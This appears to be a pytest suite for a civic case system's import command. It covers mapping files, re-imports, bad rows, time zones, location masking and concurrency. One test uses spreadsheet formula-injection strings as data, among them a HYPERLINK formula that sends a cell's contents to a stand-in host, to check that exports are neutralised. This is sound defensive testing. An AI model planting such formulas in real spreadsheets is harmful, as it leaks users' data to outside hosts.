"""Importing the cases of other systems: once, whole, with their history, and out of everybody's way."""

from __future__ import annotations

import json
import re
import threading
import time
from collections import Counter
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, get_args, get_type_hints

import pytest
from click.testing import Result
from flask import Flask
from sqlalchemy import event, func, select

from backend.cases.imports import importing
from backend.cases.imports.import_areas import drawn
from backend.cases.imports.import_history import case_id
from backend.cases.imports.import_mappings import (
    END_STATUSES,
    FIELDS,
    AreaRule,
    BadMapping,
    mapping_of,
    read_mapping,
    shipped_mappings,
)
from backend.cases.tables import Case, CaseReporter
from backend.extensions import db
from backend.http.reading import connection, rows
from backend.http.table_writing import write_csv
from backend.ledger import chain
from backend.ledger.tables import LedgerEntry
from backend.ledger.verifying import verify
from backend.outbox.tables import OutboxMessage
from backend.rewards.rule_sets import IN_FORCE, load_rule_set
from backend.rewards.snapshot import take_snapshot
from backend.rewards.towns import read_town
from backend.territory.location import locate
from backend.territory.periods import read_period
from backend.territory.tables import Area
from tests.town import HOME, TOWN, VILLAGE, People, report

MESSAGES = {
    "source": "messages",
    "town": {"code": TOWN},
    "columns": {
        "external_id": "id",
        "description": ["title", "text"],
        "filed_at": "filed_at",
        "handled_at": "replied_at",
        "closed_at": "replied_at",
        "note": "reply",
    },
    "category": {"otherwise": "other_matter"},
    "area": {"by": "seed", "seed": "test"},
}
REQUESTS = {
    "source": "requests",
    "town": {"code": "999025001", "name": "Boston"},
    "time_zone": "America/New_York",
    "columns": {
        "external_id": "id",
        "description": "type",
        "filed_at": "opened",
        "due_at": "due",
        "closed_at": "closed",
        "status": "status",
        "area": "where",
        "lon": "lon",
        "lat": "lat",
        "address": "street",
    },
    "crs": "wgs84",
    "status": {"values": {"Open": "dispatched", "Closed": "closed"}},
    "category": {"otherwise": "road"},
    "area": {"by": "made", "nameless": "Nowhere"},
}
NOW = datetime(2026, 11, 2, tzinfo=UTC)


def message(number: int, **changes: Any) -> dict[str, Any]:
    return {
        "id": f"m{number}",
        "title": f"路灯{number}",
        "text": "门口路灯不亮\n电话13812345678",
        "filed_at": "2019-07-01T09:00:00",
        "replied_at": "2019-07-09T10:30:00",
        "reply": "已修复",
    } | changes


def request_row(number: int, **changes: Any) -> dict[str, Any]:
    return {
        "id": str(number),
        "type": "Pothole",
        "opened": "2011-08-01 09:00:00",
        "due": "2011-08-05 09:00:00",
        "closed": "2011-08-03 10:00:00",
        "status": "Closed",
        "where": "Roxbury",
        "lon": -71.08,
        "lat": 42.33,
        "street": "1 Main St",
    } | changes


class Importer:
    """Runs `flask cases import` on rows written to a file."""

    def __init__(self, app: Flask, folder: Path) -> None:
        self.app, self.folder = app, folder

    def __call__(self, lines: list[Any], mapping: Mapping[str, Any] = MESSAGES, *options: str) -> Result:
        export, mapped = self.folder / "export.jsonl", self.folder / "mapping.json"
        export.write_text("\n".join(line if isinstance(line, str) else json.dumps(line) for line in lines))
        mapped.write_text(json.dumps(mapping))
        return self.run(export, "--mapping", str(mapped), *options)

    def run(self, *arguments: object) -> Result:
        return self.app.test_cli_runner().invoke(args=["cases", "import", *map(str, arguments)])


@pytest.fixture
def importer(app: Flask, tmp_path: Path) -> Importer:
    return Importer(app, tmp_path)


def count(app: Flask, *where: Any) -> int:
    with app.app_context():
        [row] = rows(select(func.count()).select_from(Case).where(*where))
        return int(row[0])


def test_a_message_becomes_a_case_that_can_be_found_read_and_followed(importer: Importer, people: People) -> None:
    done = importer([message(1), message(2, replied_at="", reply="")])
    assert (done.exit_code, done.output.splitlines()[-1]) == (0, "2 rows: 2 imported, 0 already here, 0 refused.")
    found = people["dispatcher"].get("/cases?text=灯").json["items"]
    assert len(found) == 2
    case = people["dispatcher"].get(f"/cases/{case_id('messages', 'm1')}").json
    assert case["description"] == "路灯1\n门口路灯不亮\n电话13812345678"
    assert (case["status"], case["occurred_at"], case["closed_at"]) == (
        ("closed", "2019-07-01T09:00:00+08:00", "2019-07-09T10:30:00+08:00")
    )
    assert case["number"].startswith("20190701-") and case["holder"] == case["area_code"]
    events = people["dispatcher"].get(f"/cases/{case['id']}/timeline").json["items"]
    assert [event["action"] for event in events] == (
        ["report", "accept", "dispatch", "start", "hand_in", "pass_check", "close"]
    )
    assert [event["occurred_at"][:10] for event in events] == ["2019-07-01"] * 3 + ["2019-07-09"] * 4
    assert {event["actor"]["role"] for event in events} == {"import"} and events[4]["note"] == "已修复"
    still_open = people["dispatcher"].get(f"/cases/{case_id('messages', 'm2')}").json
    assert (still_open["status"], still_open["due_at"], still_open["holder"]) == (
        ("dispatched", "2019-07-15T17:30:00+08:00", still_open["area_code"])
    )


def test_an_import_tells_the_ledger_of_each_case_and_nobody_else_of_any(importer: Importer, app: Flask) -> None:
    importer([message(number) for number in range(5)])
    with app.app_context():
        told = rows(select(LedgerEntry).where(LedgerEntry.action == "import").order_by(LedgerEntry.id))
        assert [entry.thing_id for entry in told] == [str(case_id("messages", f"m{number}")) for number in range(5)]
        assert {entry.thing_version for entry in told} == {7}
        assert rows(select(OutboxMessage)) == rows(select(CaseReporter)) == []
        while chain.seal():
            pass
        assert verify(connection(), TOWN).fault is None


def test_importing_again_adds_only_what_is_new(importer: Importer, app: Flask) -> None:
    importer([message(number) for number in range(300)])
    with app.app_context():
        before = rows(select(Case.id, Case.number, Case.version).order_by(Case.id))
    done = importer([message(number) for number in range(310)])
    assert "310 rows: 10 imported, 300 already here, 0 refused." in done.output
    with app.app_context():
        after = rows(select(Case.id, Case.number, Case.version).order_by(Case.id))
    assert len(after) == 310 and set(before) < set(after)


def test_a_case_that_went_on_here_is_left_as_it_is(importer: Importer, people: People) -> None:
    importer([message(1, replied_at="", reply="")])
    case = str(case_id("messages", "m1"))
    holder = people["dispatcher"].get(f"/cases/{case}").json["holder"]
    answer = people["dispatcher"].act(case, "dispatch", department="sanitation", note="属环卫所")
    assert (answer.status_code, holder[:9]) == (200, TOWN)
    assert "1 already here" in importer([message(1)]).output
    seen = people["dispatcher"].get(f"/cases/{case}").json
    assert (seen["status"], seen["holder"]) == ("dispatched", "sanitation")


def test_bad_rows_are_told_by_line_and_reason_and_the_others_kept(importer: Importer, app: Flask) -> None:
    bad = [
        ("{not json", "is not JSON"),
        (message(2, id=" "), "external_id is empty"),
        (message(3, title="", text="\n"), "description is empty"),
        (message(4, filed_at=""), "filed_at is empty"),
        (message(5, filed_at="2019-13-01"), "'2019-13-01' is no time"),
        (message(6, filed_at="2199-01-01T00:00:00"), "in the future"),
        (message(7, replied_at="2019-06-30T10:00:00"), "handled before it was filed"),
        (message(8, text="a\x00b"), "cannot be stored"),
        (message(9, text="\ud842"), "cannot be stored"),
        (message(10, text="长" * 10_001), "more than 10000"),
        (message(0), "same external_id as line 1"),
    ]
    done = importer([message(0), *(row for row, _ in bad), message(12)])
    assert done.exit_code == 1
    assert "13 rows: 2 imported, 0 already here, 11 refused." in done.output
    told = [line for line in done.output.splitlines() if line.startswith("export.jsonl:")]
    for line, (number, (_, reason)) in zip(told, enumerate(bad, start=2), strict=True):
        assert line.startswith(f"export.jsonl:{number}: ") and reason in line
    assert count(app) == 2


def test_a_rehearsal_says_the_same_and_changes_nothing(importer: Importer, app: Flask) -> None:
    lines = [request_row(1), request_row(2, status="?")]
    rehearsed = importer(lines, REQUESTS, "--dry-run")
    assert "2 rows: 1 would be imported, 0 already here, 1 refused." in rehearsed.output
    assert count(app) == 0
    with app.app_context():
        assert rows(select(Area).where(Area.code.like("999%"))) == []
    assert "2 rows: 1 imported, 0 already here, 1 refused." in importer(lines, REQUESTS).output


def test_areas_are_made_from_a_column_once_and_rows_without_one_have_their_own(importer: Importer, app: Flask) -> None:
    importer([request_row(1), request_row(2, where="Back Bay"), request_row(3, where=" ")], REQUESTS)
    importer([request_row(4, where="Allston"), request_row(5, where=None)], REQUESTS)
    with app.app_context():
        made = {row.code: row.name for row in rows(select(Area.code, Area.name).where(Area.code.like("999%")))}
        held = Counter(row.village_code for row in rows(select(Case.village_code)))
        entries = rows(
            select(LedgerEntry).where(LedgerEntry.action == "import_areas", LedgerEntry.chain == "999025001")
        )
    assert made == {
        "999025001": "Boston",
        "999025001001": "Back Bay",
        "999025001002": "Nowhere",
        "999025001003": "Roxbury",
        "999025001004": "Allston",
    }
    assert held == {"999025001001": 1, "999025001002": 2, "999025001003": 1, "999025001004": 1}
    assert len(entries) == 2


def test_times_are_read_in_the_zone_of_the_source(importer: Importer, app: Flask) -> None:
    summer = request_row(1, opened="2011-08-01 09:00:00", due="2011-08-05 09:00:00", closed="2011-08-03T10:00:00-07:00")
    winter = request_row(2, opened="2011-12-01 09:00:00", due="", closed="2011-12-02 10:00:00")
    importer([summer, winter], REQUESTS)
    with app.app_context():
        one, other = rows(select(Case).order_by(Case.occurred_at))
    assert one.occurred_at == datetime(2011, 8, 1, 13, tzinfo=UTC)
    assert one.case_due_at == datetime(2011, 8, 5, 13, tzinfo=UTC)
    assert one.closed_at == datetime(2011, 8, 3, 17, tzinfo=UTC)
    assert other.occurred_at == datetime(2011, 12, 1, 14, tzinfo=UTC)
    assert other.case_due_at == datetime(2011, 12, 22, 22, 30, tzinfo=UTC)  # fifteen workdays, closing time there


def test_the_ranking_counts_what_was_imported_in_the_month_it_was_due(importer: Importer, app: Flask) -> None:
    late = {"closed": "2011-08-06 10:00:00"}
    lines = [
        *(request_row(number) for number in range(3)),
        request_row(4, **late),
        request_row(5, where="Back Bay", status="Open", closed=""),
        request_row(6, where="Back Bay", due="2011-09-02 09:00:00"),
    ]
    importer(lines, REQUESTS)
    with app.app_context():
        town = read_town("999025001")
        taken = take_snapshot(town.code, read_period("2011-08", town.zone), load_rule_set(IN_FORCE), town.villages, NOW)
    in_time = {town.villages[code]: one for code, one in taken.evidence["handled_in_time"].items()}
    assert {name: (one.numerator, one.exposure) for name, one in in_time.items()} == {
        "Roxbury": (3, 4),
        "Back Bay": (0, 1),
    }


def test_a_place_is_kept_and_its_exact_point_shown_to_nobody_with_a_masked_sight(
    importer: Importer, people: People, app: Flask
) -> None:
    mapping = MESSAGES | {
        "columns": MESSAGES["columns"] | {"lon": "lon", "lat": "lat", "address": "address"},  # type: ignore[operator]
        "crs": "gcj02",
        "area": {"by": "location"},
    }
    rows_given = [
        message(1, lon=HOME["lon"], lat=HOME["lat"], address="幸福路12号"),
        message(2, lon=113.9, lat=22.8),
        message(3, lon=None, lat=None),
        message(4, lon=22.8, lat=113.0),
        message(5, lon="x", lat=22.8),
    ]
    done = importer(rows_given, mapping)
    told = [line.split(": ", 1)[1] for line in done.output.splitlines() if line.startswith("export.jsonl:")]
    assert len(told) == 4 and "km from" in told[0] and told[1] == "lon and lat are empty"
    case = people["dispatcher"].get(f"/cases/{case_id('messages', 'm1')}?crs=gcj02").json
    assert (case["location"]["lon"], case["location"]["lat"]) == (HOME["lon"], HOME["lat"])
    with app.app_context():
        place = locate(**HOME)  # type: ignore[arg-type]
    assert case["area_code"] == place.area_code
    masked = people["committee"].get(f"/cases/{case['id']}").json
    assert masked["location"] == (
        {"lon": place.coarse_lon, "lat": place.coarse_lat, "crs": "wgs84", "approximate": True}
    )
    assert "13812345678" not in masked["description"] and masked["address"] is None


def test_words_find_their_village_and_unknown_words_are_refused(importer: Importer, app: Flask) -> None:
    mapping = MESSAGES | {
        "columns": MESSAGES["columns"] | {"area": "village"},  # type: ignore[operator]
        "area": {"by": "values", "values": {"敦根": VILLAGE, "": "440605121001"}},
    }
    done = importer([message(1, village="敦根"), message(2), message(3, village="没有")], mapping)
    assert "area '没有' has no meaning" in done.output
    with app.app_context():
        assert {row.village_code for row in rows(select(Case.village_code))} == {VILLAGE, "440605121001"}
    wrong = importer([message(4)], mapping | {"area": {"by": "values", "values": {"x": "440605121999"}}})
    assert wrong.exit_code == 1 and "areas that are not here: 440605121999" in wrong.output


def test_villages_drawn_by_a_seed_are_always_the_same_and_about_equally_many() -> None:
    codes = [f"{number:02d}" for number in range(27)]
    assert [drawn("civic_messages", key, codes) for key in ("2555", "2557", "2574")] == ["16", "26", "20"]
    drawn_often = Counter(drawn("civic_messages", str(number), codes) for number in range(4_312))
    assert len(drawn_often) == 27 and min(drawn_often.values()) > 110 and max(drawn_often.values()) < 210
    assert [drawn("another", str(number), codes) for number in range(9)] != (
        [drawn("civic_messages", str(number), codes) for number in range(9)]
    )


@pytest.mark.parametrize("name", shipped_mappings())
def test_every_shipped_mapping_can_be_used(name: str) -> None:
    assert read_mapping(name).source == name


def test_the_page_on_imports_names_every_field_status_and_rule() -> None:
    page = (Path(__file__).parents[2] / "docs" / "import.md").read_text()
    for name in (*FIELDS, *END_STATUSES, *get_args(get_type_hints(AreaRule)["by"])):
        assert re.search(rf"\b{name}\b", page), name
    example = re.search(r"```json\n(.*?)```", page, re.DOTALL)
    assert example and mapping_of(json.loads(example[1])).source == "old_hotline"


def test_a_mapping_that_cannot_be_used_says_where_and_why(importer: Importer) -> None:
    for change, told in (
        ({"colums": {}}, "colums: Unknown field."),
        ({"columns": {"external_id": "id", "description": "text"}}, "columns: no column for filed_at"),
        ({"columns": MESSAGES["columns"] | {"lon": "x", "lat": "y"}}, "crs: Name the coordinate system"),  # type: ignore[operator]
        ({"category": {"otherwise": "nothing"}}, "category: nothing is none of litter"),
        ({"time_zone": "Mars/Olympus"}, "time_zone: Not an IANA time zone."),
        ({"area": {"by": "seed"}}, "area.seed: Missing data"),
        ({"encoding": "morse"}, "encoding: Not an encoding known here."),
    ):
        with pytest.raises(BadMapping, match=told.replace(".", r"\.")):
            mapping_of(MESSAGES | change)
    missing = importer([{"id": "1"}])
    assert missing.exit_code == 1 and "has no column title, text, filed_at" in missing.output
    assert "No such file" in importer.run(importer.folder / "export.jsonl", "--mapping", "nowhere.json").output


def test_an_export_known_by_its_columns_needs_no_mapping(importer: Importer, tmp_path: Path) -> None:
    export = tmp_path / "messages.jsonl"
    export.write_text(json.dumps(message(1)))
    assert "1 rows: 1 imported" in importer.run(export).output
    export.write_text(json.dumps({"id": 1}))
    assert "name one with --mapping" in importer.run(export).output


def test_a_gb18030_csv_and_a_workbook_end_as_the_same_cases(importer: Importer, app: Flask, tmp_path: Path) -> None:
    from openpyxl import Workbook

    mapping = tmp_path / "mapping.json"
    mapping.write_text(json.dumps(MESSAGES))
    lines = [list(message(1)), *(list(message(number).values()) for number in (1, 2))]
    quoted = "\r\n".join(",".join(f'"{cell}"' for cell in line) for line in lines)
    (tmp_path / "export.csv").write_bytes(quoted.encode("gb18030"))
    book = Workbook()
    for line in lines:
        assert book.active is not None
        book.active.append(line)
    book.save(tmp_path / "export.xlsx")
    assert "2 rows: 2 imported" in importer.run(tmp_path / "export.csv", "--mapping", mapping).output
    assert "2 rows: 0 imported, 2 already here" in importer.run(tmp_path / "export.xlsx", "--mapping", mapping).output


def test_what_this_product_exported_is_taken_back_as_it_was_said_and_its_own_list_never(
    importer: Importer, app: Flask, people: People, tmp_path: Path
) -> None:
    texts = ['=HYPERLINK("http://x.example/?"&A1,"点")', "@SUM(1)", "\t=1+1", "'=引号在前", '门口"A栋",二楼\n漏水；=']
    lines = [["id", "title", "text", "filed_at", "lon", "lat"]]
    lines += [[f"00{number}", text, "+8613800138000", "2019-07-01", -170.5, -12.5] for number, text in enumerate(texts)]
    with (tmp_path / "export.csv").open("w", encoding="utf-8", newline="") as file:
        write_csv(file, lines)
    mapping = tmp_path / "mapping.json"
    columns = {
        "external_id": "id",
        "description": ["title", "text"],
        "filed_at": "filed_at",
        "lon": "lon",
        "lat": "lat",
    }
    mapping.write_text(json.dumps(MESSAGES | {"columns": columns, "crs": "wgs84"}))
    assert "5 imported, 0 already here, 0 refused" in importer.run(tmp_path / "export.csv", "--mapping", mapping).output
    with app.app_context():
        kept = rows(select(Case.description, Case.original_lon, Case.original_lat))
    assert {case.description for case in kept} == {f"{text.strip()}\n+8613800138000" for text in texts}
    assert {(case.original_lon, case.original_lat) for case in kept} == {(-170.5, -12.5)}
    for form in ("csv", "xlsx"):
        own = tmp_path / f"案件清单.{form}"
        own.write_bytes(people["dispatcher"].get(f"/cases/file?format={form}").data)
        done = importer.run(own)
        assert done.exit_code == 1 and "no shipped mapping is made for the columns" in done.output
    assert count(app) == 5


def test_an_import_ends_its_units_of_work_when_their_time_is_up(
    importer: Importer, app: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importing, "WRITING", 0.0)
    ended: list[int] = []
    with app.app_context():
        engine = db.engine

    def note(_connection: object) -> None:
        ended.append(1)

    event.listen(engine, "commit", note)
    importer([message(number) for number in range(50)])
    event.remove(engine, "commit", note)
    assert len(ended) == 4 and count(app) == 50


def test_a_number_that_is_taken_is_drawn_anew(importer: Importer, app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    class Chance:
        draws = iter([7, 7, *range(100, 200)])

        def randrange(self, _stop: int) -> int:
            return next(self.draws)

    monkeypatch.setattr(importing, "_chance", Chance())
    assert "2 rows: 2 imported, 0 already here" in importer([message(1), message(2)]).output
    with app.app_context():
        assert {row.number for row in rows(select(Case.number))} == {"20190701-00000100", "20190701-00000101"}


def test_people_file_while_an_import_runs_without_waiting_a_second(
    importer: Importer, people: People, app: Flask
) -> None:
    waits = _file_during(people, lambda: importer([message(number) for number in range(600)]))
    assert len(waits) > 2 and max(waits) < 1.0
    assert count(app) == 600 + len(waits)


def _file_during(people: People, work: Any) -> list[float]:
    resident = people["resident"]
    resident.file()
    running = threading.Thread(target=work)
    running.start()
    waits = []
    while running.is_alive():
        begun = time.monotonic()
        assert resident.post("/cases", report()).status_code == 201
        waits.append(time.monotonic() - begun)
        running.join(0.2 - min(0.2, waits[-1]))
    return [0.0, *waits]


@pytest.mark.prove
def test_forty_thousand_requests_take_less_than_two_minutes_beside_people_who_file(
    importer: Importer, people: People, app: Flask
) -> None:
    opened = datetime(2011, 7, 1, 9, tzinfo=UTC)
    lines = [
        request_row(
            number,
            opened=(opened + timedelta(minutes=2 * number)).isoformat(),
            due=(opened + timedelta(days=3, minutes=2 * number)).isoformat(),
            closed=(opened + timedelta(days=1, minutes=3 * number)).isoformat(),
            where=f"Neighbourhood {number % 24}",
        )
        for number in range(41_827)
    ]
    begun = time.monotonic()
    waits = _file_during(people, lambda: importer(lines, REQUESTS))
    taken = time.monotonic() - begun
    print(f"\n41,827 rows in {taken:.0f} s, {len(waits)} filed, longest wait {max(waits) * 1000:.0f} ms")
    assert taken < 120 and max(waits) < 1.0 and count(app) == 41_827 + len(waits)
